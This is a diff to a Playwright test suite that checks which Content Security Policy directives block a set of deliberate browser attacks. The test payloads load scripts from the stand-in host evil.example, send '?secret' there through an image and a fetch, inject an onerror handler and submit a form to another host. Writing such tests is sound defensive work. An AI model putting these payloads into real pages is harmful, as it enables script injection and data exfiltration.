@@ -80,7 +80,7 @@ test('a brand with logo, colours and footer', async ({ page }) => {
 
 test('a footer full of attacks', async ({ page }) => {
   await page.goto('/?cobrand=hostile');
-  await expect(page.getByRole('contentinfo')).toContainText('print');
+  await expect(page.getByRole('contentinfo')).toContainText('Hostile');
 });
 
 test('the language switch', async ({ page }) => {
@@ -93,7 +93,8 @@ test.describe('what the policy stops', () => {
   // These pages have violations, on purpose.
   test.use({ provoked: /violat|Trusted|blocked|net::ERR/ });
 
-  const attacks: readonly (readonly [string, () => void, string])[] = [
+  /** What is tried, and the directives that may stop it: with a default policy the script's host decides. */
+  const attacks: readonly (readonly [string, () => void, RegExp])[] = [
     [
       'inline script',
       () => {
@@ -101,7 +102,7 @@ test.describe('what the policy stops', () => {
         script.append('window.attacked = true');
         document.body.append(script);
       },
-      'require-trusted-types-for',
+      /^(require-trusted-types-for|script-src-elem)$/,
     ],
     [
       'script of another host by its address',
@@ -110,31 +111,31 @@ test.describe('what the policy stops', () => {
         script.src = 'https://evil.example/a.js';
         document.body.append(script);
       },
-      'require-trusted-types-for',
+      /^(require-trusted-types-for|script-src-elem)$/,
     ],
     [
       'an imported module of another host',
       () => void import('https://evil.example/a.js' as string).catch(() => undefined),
-      'script-src-elem',
+      /^script-src-elem$/,
     ],
     [
       'a picture that calls home by http',
       () => {
         new Image().src = 'http://evil.example/?secret';
       },
-      'img-src',
+      /^img-src$/,
     ],
     [
       'a call to another host',
       () => void fetch('https://evil.example/?secret').catch(() => undefined),
-      'connect-src',
+      /^connect-src$/,
     ],
     [
       'HTML from text',
       () => {
         document.body.innerHTML = '<img src=x onerror="window.attacked = true">';
       },
-      'require-trusted-types-for',
+      /^(require-trusted-types-for|script-src-elem)$/,
     ],
     [
       'a form to another host',
@@ -145,7 +146,7 @@ test.describe('what the policy stops', () => {
         document.body.append(form);
         form.submit();
       },
-      'form-action',
+      /^form-action$/,
     ],
   ];
   for (const [name, attack, directive] of attacks) {
@@ -154,7 +155,7 @@ test.describe('what the policy stops', () => {
       await page.goto('/');
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
       await page.evaluate(attack).catch(() => undefined);
-      await expect.poll(violations).toContain(directive);
+      await expect.poll(violations).toContainEqual(expect.stringMatching(directive));
       expect(await page.evaluate(() => (window as { attacked?: boolean }).attacked)).toBeUndefined();
       expect(page.url()).toBe(`${server.url}/`);
     });
